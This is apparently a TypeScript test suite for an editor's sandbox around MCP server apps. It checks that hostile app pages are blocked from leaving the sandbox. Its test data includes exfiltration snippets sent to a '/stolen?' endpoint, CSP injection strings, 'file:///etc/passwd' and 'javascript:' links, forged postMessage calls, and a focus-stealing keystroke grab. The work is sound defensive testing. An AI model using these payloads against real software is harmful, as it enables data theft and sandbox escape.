import { strict as assert } from 'node:assert';
import path from 'node:path';
import { root } from '../../../scripts/lib/paths.mjs';
import { policyOf, readCsp, withReadCsps } from '../../../src/bridge/apps/appCsp.ts';
import type { JsonObject } from '../../../src/base/json/json.ts';
import { AppLimits } from '../../../src/bridge/apps/appLimits.ts';
import { DEFAULT_CALL_SETTINGS, type CallSettings } from '../../../src/calls/callSettings.ts';
import { readPermissionRules } from '../../../src/config/rules/permissionRules.ts';
import { AppBrowser, AppRig, HeldAnswers, pageThat, sessionOf } from '../../support/appRig.ts';
import { eventually } from '../../support/eventually.ts';
import { withStubbedEditor } from '../../support/stubbedEditor.ts';
import { GatewayRig } from '../bridge/gatewayRig.ts';

const asked: string[] = [];
const editor = {
  answer: undefined as 'yes' | 'enter' | undefined,
  /** What happens while the question is open. */
  meanwhile: undefined as (() => void) | undefined,
  executed: [] as unknown[],
  opened: [] as string[],
};
const { AppQuestions } = await withStubbedEditor(
  {
    l10n: {
      t: (text: string, ...values: readonly unknown[]) =>
        text.replaceAll(/\{(\d)\}/g, (_, at: string) => String(values[Number(at)])),
    },
    env: { openExternal: async (href: string) => editor.opened.push(href) > 0 },
    commands: { executeCommand: async (...args: readonly unknown[]) => void editor.executed.push(args) },
    window: {
      // The editor's dialog takes its first button for Enter.
      showWarningMessage: async (question: string, options: { detail: string }, ...buttons: readonly string[]) => {
        asked.push(`${question}\n${options.detail}`);
        editor.meanwhile?.();
        return editor.answer && buttons.at(editor.answer === 'yes' ? -1 : 0);
      },
    },
  },
  () => import('../../../src/bridge/apps/appQuestions.ts'),
);

describe('an app of a hostile server', function () {
  this.timeout(120_000);
  let rules: CallSettings['rules'] = [];
  let rig: AppRig;
  let browser: AppBrowser;

  before(async () => {
    rig = new AppRig({ ports: { calls: { settings: () => ({ ...DEFAULT_CALL_SETTINGS, rules }) } } });
    await rig.start();
    browser = await AppBrowser.launch();
  });
  beforeEach(() => {
    rules = [];
    browser.requested.length = 0;
  });
  after(async () => {
    await browser.close();
    await rig.stop();
  });

  it('An app that leads the editor, a window or itself elsewhere, with what it was given', async () => {
    const away = `${browser.origin}/stolen?`;
    const led = async (act: string): Promise<string> => {
      rig.setPage(pageThat(`const away = '${away}'; ${act}`));
      const drawn = await browser.draw(rig);
      const isGone = async (): Promise<boolean> => (await drawn.view.locator('#status').textContent()) === 'left';
      const done = async (): Promise<string | null | undefined> =>
        drawn.view
          .childFrames()[0]
          ?.locator('#done')
          .textContent({ timeout: 200 })
          .catch(() => undefined);
      const outcome = await eventually(act, async () => ((await isGone()) ? 'closed' : ((await done()) ?? undefined)));
      assert.equal(drawn.page.url(), `${browser.origin}/`);
      return outcome;
    };
    const link =
      "Object.assign(document.body.appendChild(document.createElement('a')), { target: '_top', href: away }).click();";
    const form = "Object.assign(document.body.appendChild(document.createElement('form')), { action: away }).submit();";
    assert.equal(await led("return String(window.open(away + 'window'));"), 'null');
    assert.equal(
      await led('try { window.top.location.href = away; } catch (error) { return error.name; }'),
      'SecurityError',
    );
    assert.equal(await led(`${link} await ask('ping');`), 'done');
    // Its own frame is for what it declared alone, and what it would be led to isn't the app.
    assert.equal(await led(`${form} await new Promise(() => undefined);`), 'closed');
    assert.equal(await led('location.href = away; await new Promise(() => undefined);'), 'closed');
    assert.deepEqual(browser.requested, []);
  });

  it('An app that loads from, or sends to, a site that it didn’t declare', async () => {
    rig.setPage(
      // Before anything that a policy could be put before.
      `<script>fetch('${browser.origin}/stolen?first')</script>` +
        pageThat(
          `
        const away = '${browser.origin}/stolen?';
        const loaded = (tag, set) => new Promise((resolve) => { const e = document.createElement(tag); e.onload = () => resolve('loaded'); e.onerror = () => resolve('blocked'); set(e); document.body.append(e); });
        return [
          await fetch(away + 'fetch').then(() => 'sent', () => 'blocked'),
          await loaded('img', (e) => { e.src = away + 'img'; }),
          await loaded('script', (e) => { e.src = away + 'script'; }),
          await loaded('link', (e) => { e.rel = 'stylesheet'; e.href = away + 'style'; }),
          navigator.sendBeacon(away + 'beacon', 'x') && 'queued',
          await new Promise((resolve) => { const s = new WebSocket(away.replace('http', 'ws')); s.onerror = () => resolve('blocked'); s.onopen = () => resolve('sent'); }),
        ];
      `,
          // What it says of its own policy can only be more of one.
          '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
        ),
      { csp: { connectDomains: ['https://api.example.com'] } },
    );
    const drawn = await browser.draw(rig);
    const done = JSON.parse(await drawn.text('done')) as readonly unknown[];
    assert.deepEqual(
      done.filter((each) => each !== 'queued' && each !== false),
      ['blocked', 'blocked', 'blocked', 'blocked', 'blocked'],
    );
    assert.deepEqual(browser.requested, []);
  });

  it('An app that declares more than sites, to end the policy or to add to it', () => {
    const hostile = [
      'https://a.example; script-src *',
      'https://a.example;connect-src *',
      'https://a.example *',
      'https://a.example,https://b.example',
      '*',
      'https:',
      'https://*',
      "'unsafe-eval'",
      "'self'",
      'https://a.example">',
      'https://a.example/?a=;b',
      'javascript:x',
      'file:///etc',
      'https://a.example\n;script-src *',
      'https://user@a.example',
      `https://${'a'.repeat(400)}.example`,
      7,
      null,
    ];
    const declared = {
      connectDomains: hostile,
      resourceDomains: hostile,
      frameDomains: hostile,
      baseUriDomains: hostile,
    };
    assert.equal(policyOf(readCsp(declared)), policyOf(readCsp({})));
    // The editor makes a policy of it, too.
    const content = { uri: 'ui://a', text: '', _meta: { ui: { csp: declared, prefersBorder: true }, other: 1 } };
    const none = { connectDomains: [], resourceDomains: [], frameDomains: [], baseUriDomains: [] };
    const read = { ...content, _meta: { ui: { csp: none, prefersBorder: true }, other: 1 } };
    assert.deepEqual(withReadCsps({ contents: [content], resources: [content], nextCursor: 'a' }), {
      ...{ contents: [read], resources: [read], nextCursor: 'a' },
    });
  });

  it('An app that reads the document around it, or speaks to it as the editor', async () => {
    rig.setPage(
      pageThat(
        `
        const tried = (act) => { try { return String(act()); } catch (error) { return error.name; } };
        const forged = { type: 'open', html: '<p id="forged">', title: '', allow: 'camera' };
        parent.postMessage(forged, '*');
        parent.postMessage({ type: 'failed', why: 'forged' }, '*');
        const inner = document.createElement('iframe');
        const loaded = new Promise((resolve) => { inner.onload = resolve; });
        inner.srcdoc = '<script>for (const m of [{ type: "failed", why: "nested" }, { jsonrpc: "2.0", id: 77, method: "tools/call", params: { name: "for_app" } }]) parent.parent.postMessage(m, "*")</scr' + 'ipt>';
        document.body.append(inner);
        await loaded;
        return [tried(() => parent.document.body), tried(() => parent.acquireVsCodeApi), tried(() => localStorage.length), tried(() => document.cookie), origin];
      `,
      ),
    );
    const drawn = await browser.draw(rig);
    const done = JSON.parse(await drawn.text('done')) as readonly string[];
    assert.deepEqual(done, ['SecurityError', 'SecurityError', 'SecurityError', 'SecurityError', 'null']);
    // What comes after it has been heard after it.
    await (await drawn.app()).evaluate('ask("ping").then(() => show("pinged", "pinged"))');
    assert.equal(await drawn.text('pinged'), 'pinged');
    assert.equal(await drawn.view.locator('#status').textContent(), '');
    const told = drawn.said.flatMap((each) => (each.type === 'rpc' ? [JSON.stringify(each.message)] : []));
    assert.ok(!told.some((text) => text.includes('"id":77')));
  });

  it('An app that sends messages without end, or one without measure', async () => {
    rig.setPage(
      pageThat(
        "for (let n = 0; n < 5000; n++) send({ method: 'ui/notifications/size-changed', params: { height: n } });",
      ),
    );
    const flooding = await browser.draw(rig);
    assert.equal(await flooding.failure(), 'flood');
    assert.ok(flooding.said.length < 1_200, String(flooding.said.length));
    assert.ok(
      flooding.said.some(({ type }) => type === 'gone'),
      'what it asked for ends with it',
    );
    rig.setPage(pageThat("send({ method: 'notifications/message', params: { data: 'x'.repeat(9e6) } });"));
    assert.equal(await (await browser.draw(rig)).failure(), 'large');
    // The result stays.
    assert.equal(await flooding.view.locator('#result-text').isVisible(), true);
  });

  it('An app that is as high as it likes, or not a number', async () => {
    for (const [heights, shown] of [
      ["1e9, '9', NaN, Infinity", '4000px'],
      ['300, -5, null', '60px'],
    ]) {
      rig.setPage(
        pageThat(
          `for (const height of [${heights}]) send({ method: 'ui/notifications/size-changed', params: { height } }); await ask('ping');`,
        ),
      );
      const drawn = await browser.draw(rig);
      assert.equal(await drawn.text('done'), 'done');
      const frame = drawn.view.locator('#app iframe');
      await eventually(`a height of ${shown}`, async () =>
        (await frame.getAttribute('style'))?.includes(`height: ${shown}`),
      );
    }
  });

  it('An app that answers what it wasn’t asked, repeats ids, or sends no JSON-RPC', async () => {
    rig.setPage(
      pageThat(`
        for (const id of [0, 1, 2, -1, 1e99, 'x', null, {}]) { send({ id, result: {} }); send({ id, error: { code: 1, message: 'x' } }); }
        parent.postMessage(null, '*'); parent.postMessage('text', '*'); parent.postMessage([], '*'); parent.postMessage({ jsonrpc: '1.0', id: 5, method: 'ping' }, '*');
        send({ id: 9, method: 'tools/call', params: 'no' }); send({ id: 9, method: 'tools/call', params: { name: {} } }); send({ id: 9, method: '__proto__' }); send({ method: 7 });
        const { content } = await ask('tools/call', { name: 'for_app' });
        return [content[0].text, heard.includes(5)];
      `),
    );
    const drawn = await browser.draw(rig);
    assert.deepEqual(JSON.parse(await drawn.text('done')), ['result of for_app', false]);
  });

  it('An app that calls a tool that is for models, for nobody, denied, or another server’s', async () => {
    const server = rig.serverOf();
    const call = async (name: string): Promise<unknown> => {
      const { content, isError } = await server.call(name, {}, new AbortController().signal);
      const [block] = content as readonly { text: string }[];
      return isError === true ? `refused: ${block?.text}` : block?.text;
    };
    assert.equal(await call('for_app'), 'result of for_app');
    for (const name of ['for_model', 'for_nobody', 'mcp__tools__for_app', 'mcp__other__tool', 'toString'])
      assert.match(String(await call(name)), /^refused: The server has no tool/);
    // One policy, and a question that says who asks.
    assert.match(String(await call('write_for_app')), /^refused: /);
    assert.deepEqual(
      rig.test.questions.map(({ surface, caller }) => [surface, caller]),
      [['app', 'show']],
    );
    rules = readPermissionRules([{ tool: 'mcp__tools__for_app', action: 'deny' }], 'user').rules;
    assert.match(String(await call('for_app')), /^refused: /);
  });

  it('A model that calls a tool that is for an app, or for nobody', async () => {
    for (const surface of ['lm-tool', 'participant', 'outside', 'api', 'editor'] as const)
      for (const name of ['mcp__tools__for_app', 'mcp__tools__for_nobody'])
        await assert.rejects(
          rig.test.host.broker.call({ name, args: {}, surface, signal: new AbortController().signal }),
          /Unknown tool/,
        );
    const gateway = new GatewayRig();
    try {
      const args = [path.join(root, 'test/fixtures/servers/appTools.ts')];
      await gateway.start({ tools: { command: process.execPath, args } });
      const client = await gateway.client(undefined, 'tools');
      const call = async (name: string, meta?: object): Promise<string> =>
        JSON.stringify(await client.callTool({ name, arguments: {}, ...(meta ? { _meta: meta } : {}) } as never));
      // A call of the chat names its request; what the editor calls for an app doesn't.
      assert.match(await call('for_app'), /result of for_app/);
      assert.match(await call('for_app', { 'vscode.requestId': 'request_1' }), /Unknown tool/);
      assert.match(await call('for_nobody'), /Unknown tool/);
    } finally {
      await gateway.stop();
    }
  });

  it('A page that is none, or is 50 MB; and a tool whose page is on the web, or another server’s', async () => {
    await assert.rejects(rig.read('show_text'), /no page of type text\/html;profile=mcp-app, but text\/plain/);
    await assert.rejects(rig.read('show_huge'), /too large: 50 MB/);
    // What it names is only ever asked of its own server; and what isn't `ui:` is no page.
    await assert.rejects(rig.read('show_page_of_web'), /./);
  });

  it('An app that asks again and again, for pages of every scheme, and to put words into the chat', async () => {
    const user = new AppQuestions('serv\u202Eer', () => true);
    const { signal } = new AbortController();
    for (const address of [
      'javascript:alert(1)',
      'file:///etc/passwd',
      'command:x',
      'vscode://x',
      'data:text/html,x',
      '',
    ])
      assert.equal(await user.openLink(address, signal), false);
    assert.deepEqual(asked, []);
    editor.answer = 'yes';
    assert.equal(await user.openLink('https://user@example.com/\u200b', signal), true);
    assert.match(asked[0] ?? '', /serv\\u\{202e\}er.*\n(?:.*\n)*.*user name/);
    assert.equal(await user.writeIntoChat('do\u200b it', signal), true);
    assert.deepEqual(editor.executed, [
      ['workbench.action.chat.open', { query: String.raw`do\u{200b} it`, isPartialQuery: true }],
    ]);
    editor.answer = undefined;
    for (let n = 0; n < 10; n++) assert.equal(await user.writeIntoChat('again', signal), false);
    assert.equal(asked.length, 5);
  });

  it('A question of an app that comes up while the user types, and Enter is the next key', async () => {
    const user = new AppQuestions('server', () => true);
    const { signal } = new AbortController();
    [editor.answer, editor.executed.length, editor.opened.length] = ['enter', 0, 0];
    assert.equal(await user.openLink('https://example.com/', signal), false);
    assert.equal(await user.writeIntoChat('do it', signal), false);
    assert.deepEqual([editor.executed, editor.opened], [[], []]);
  });

  it('An app that asks while its tab isn’t seen', async () => {
    let isSeen = false;
    const user = new AppQuestions('server', () => isSeen);
    const { signal } = new AbortController();
    [editor.answer, asked.length, editor.opened.length] = ['yes', 0, 0];
    for (let n = 0; n < 5; n++) assert.equal(await user.openLink('https://example.com/', signal), false);
    assert.equal(await user.writeIntoChat('do it', signal), false);
    assert.deepEqual(asked, []);
    isSeen = true;
    assert.equal(await user.openLink('https://example.com/', signal), true, 'and nothing of it counts as a refusal');
  });

  it('An app that says again and again that it has begun, to be sent its result each time', async () => {
    rig.setPage(
      pageThat(`
        for (let n = 0; n < 200; n++) {
          send({ id: 1e6 + n, method: 'ui/initialize', params: { protocolVersion: '2026-01-26', appInfo: { name: 'x', version: '1' }, appCapabilities: {} } });
          send({ method: 'ui/notifications/initialized', params: {} });
        }
        await ask('ping');
        return [heard.filter((each) => each === 'ui/notifications/tool-result').length, heard.filter((each) => each >= 1e6).length];
      `),
    );
    const drawn = await browser.draw(rig);
    assert.deepEqual(JSON.parse(await drawn.text('done')), [1, 4]);
  });

  it('An app that takes the focus, and with it what is typed elsewhere', async () => {
    const field = `const field = document.body.appendChild(document.createElement('input')); field.id = 'field';`;
    rig.setPage(pageThat(field));
    const used = await browser.draw(rig);
    await used.text('done');
    const own = (await used.app()).locator('#field');
    await own.click();
    // Longer than between two looks at the focus.
    await used.page.keyboard.type('of the user', { delay: 50 });
    assert.equal(await own.inputValue(), 'of the user');
    // A click counts for five seconds, and each look of the test into the page is one: it only listens from here on.
    rig.setPage(
      pageThat(`${field}
        const after = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
        await after(8_000);
        for (;;) {
          field.focus();
          await after(300);
        }`),
    );
    const drawn = await browser.draw(rig);
    // It gives the focus back before it is closed: it couldn’t take it again otherwise.
    await eventually('it is closed', () => drawn.said.some(({ type }) => type === 'gone'));
    assert.equal(await drawn.failure(), 'focus');
  });

  it('An app whose tab is closed, or that was ended, while it waits for what it asked for', async () => {
    const held = new HeldAnswers();
    const own = new AppRig({ ports: { asker: held } });
    try {
      await own.start();
      const told: JsonObject[] = [];
      const { session, say } = sessionOf(own, told);
      await eventually('the handshake', () => told.length > 0);
      // The protocol's implementation keeps one request of an id.
      for (const n of [1, 2, 3])
        say({ id: 7, method: 'tools/call', params: { name: 'write_for_app', arguments: { n } } });
      await eventually('a question', () => held.questions.length > 0);
      const running = (): number => own.test.host.calls.inProgress.all.length;
      await eventually('the calls', () => running() === 3);
      told.length = 0;
      session.dispose();
      await eventually('none of the calls goes on', () => running() === 0);
      assert.ok(held.questions.every(({ signal }) => signal.aborted));
      held.release('once');
      say({ id: 8, method: 'tools/call', params: { name: 'for_app' } });
      assert.equal(await own.test.call('mcp__tools__show'), 'result of show');
      assert.deepEqual(told, []);
      assert.ok(
        own.test.host.calls.history.entries.every(({ tool, result }) => tool.endsWith('show') || result !== 'ok'),
      );
      // A dialog that is open can't be closed; its answer does nothing any more.
      const user = new AppQuestions('server', () => true);
      const ending = new AbortController();
      [editor.answer, editor.meanwhile, editor.opened.length] = ['yes', () => ending.abort(), 0];
      assert.equal(await user.openLink('https://example.com/', ending.signal), false);
      assert.equal(await user.writeIntoChat('do it', ending.signal), false);
      assert.deepEqual([editor.opened, editor.executed], [[], []]);
    } finally {
      editor.meanwhile = undefined;
      await own.stop();
    }
  });

  it('An app that has the user asked without end about what it calls and reads', async () => {
    const limits = new AppLimits();
    const before = rig.test.questions.length;
    const { signal } = new AbortController();
    const call = (n: number): Promise<JsonObject> => rig.serverOf('show', limits).call('write_for_app', { n }, signal);
    // At once, and one after another.
    const all = await Promise.all([1, 2, 3, 4, 5, 6].map(call));
    for (const n of [7, 8]) all.push(await call(n));
    assert.ok(all.every(({ isError }) => isError === true));
    await assert.rejects(rig.serverOf('show', limits).readResource('https://example.com/', signal), /denied/);
    assert.equal(rig.test.questions.length, before + 3);
    const allowed = await rig.serverOf('show', limits).call('for_app', {}, signal);
    assert.equal(allowed['isError'], false, 'what needs no question runs');
    await rig.serverOf().call('write_for_app', {}, signal);
    assert.equal(rig.test.questions.length, before + 4, 'another tab is asked for');
  });

  it('An app of a server that has another definition by now', async () => {
    const own = new AppRig();
    try {
      await own.start();
      const app = own.serverOf();
      const call = (): Promise<JsonObject> => app.call('for_app', {}, new AbortController().signal);
      assert.equal((await call())['isError'], false);
      await own.redefine();
      const { content } = await call();
      assert.match(JSON.stringify(content), /definition changed after its app was opened/);
      await assert.rejects(app.readResource('ui://tools/text', new AbortController().signal), /definition changed/);
      await assert.rejects(app.list('resources/list', undefined, new AbortController().signal), /definition changed/);
      const again = await own.serverOf().call('for_app', {}, new AbortController().signal);
      assert.equal(again['isError'], false);
    } finally {
      await own.stop();
    }
  });
});
